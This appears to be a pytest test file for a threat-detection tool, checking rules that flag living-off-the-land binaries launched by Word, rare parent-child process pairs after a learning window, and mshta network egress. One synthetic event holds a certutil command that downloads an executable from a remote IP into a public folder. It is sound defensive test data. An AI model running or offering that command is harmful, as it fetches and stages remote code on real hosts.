"""Rare lineage: LOLBins under document / script parents, rare pairs after learning, LOLBin egress."""

from __future__ import annotations

from pathlib import Path

import pytest

from aptwatch.store import Store
from tests.analytics.lake import detect, write

T0 = 1709251200.0
DAY = 86400.0
W = "C:\\Windows\\System32\\"


@pytest.fixture
def store(store_dir: Path) -> Store:
    return Store.open(store_dir, create=True)


def p(t: float, host: str, image: str, parent: str, cmd: str = "") -> dict:
    return {"time": t, "host": host, "event_code": 1, "action": "start", "process_path": image,
            "parent_path": parent, "command_line": cmd or image, "user": "CORP\\alice"}


def routine(days: int, hosts: int = 6) -> list[dict]:
    out = []
    for d in range(days):
        for h in range(hosts):
            t = T0 + d * DAY + h * 100
            out += [p(t, f"ws{h}", W + "cmd.exe", "C:\\Windows\\explorer.exe"),
                    p(t + 1, f"ws{h}", W + "conhost.exe", W + "cmd.exe"),
                    p(t + 2, f"ws{h}", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                      "C:\\Windows\\explorer.exe"),
                    p(t + 3, f"ws{h}", W + "rundll32.exe", W + "svchost.exe")]
    return out


def test_lolbin_under_office_found_in_cold_start(store: Store) -> None:
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    cmd = "certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe"
    events = [*routine(1), p(T0 + 5000, "ws3", W + "certutil.exe", word, cmd)]
    write(store, {"process": events})
    findings, _ = detect(store, ["lineage"])
    assert [(f.rule_id, f.entities["host"]) for f in findings] == [("lineage.lolbin_parent", ("ws3",))]
    f = findings[0]
    assert "T1105" in f.techniques and f.entities["process"] == ("winword.exe", "certutil.exe")
    assert "urlcache" in f.extra["example"]


def test_rare_pair_only_after_learning_and_common_pairs_never(store: Store) -> None:
    write(store, {"process": [*routine(10), p(T0 + 3 * DAY, "ws1", W + "whoami.exe", W + "notepad.exe")]})
    first, _ = detect(store, ["lineage"])
    assert first == []  # the odd pair appeared during learning: learned, not reported
    t = T0 + 11 * DAY
    write(store, {"process": [*routine(1)[:8], p(t, "ws2", W + "whoami.exe", W + "spoolsv.exe"),
                              p(t + 1, "ws2", W + "cmd.exe", "C:\\Windows\\explorer.exe")]})
    second, _ = detect(store, ["lineage"])
    assert [(f.rule_id, f.extra["pair"]) for f in second] == [("lineage.rare_pair", "pc|spoolsv.exe|whoami.exe")]


def test_lolbin_egress(store: Store) -> None:
    net = [{"time": T0, "host": "ws1", "event_code": 3, "process_path": W + "mshta.exe", "src_ip": "10.0.0.5",
            "dst_ip": "203.0.113.50", "dst_port": 443, "initiated": True},
           {"time": T0, "host": "ws1", "event_code": 3, "process_path": "C:\\Program Files\\Google\\Chrome\\chrome.exe",
            "src_ip": "10.0.0.5", "dst_ip": "142.250.1.1", "dst_port": 443, "initiated": True},
           {"time": T0, "host": "ws1", "event_code": 3, "process_path": W + "mshta.exe", "src_ip": "10.0.0.5",
            "dst_ip": "10.0.0.9", "dst_port": 443, "initiated": True}]  # internal: not egress
    write(store, {"network": net})
    findings, _ = detect(store, ["lineage"])
    assert [(f.rule_id, f.entities["dst_ip"]) for f in findings] == [("lineage.lolbin_egress", ("203.0.113.50",))]
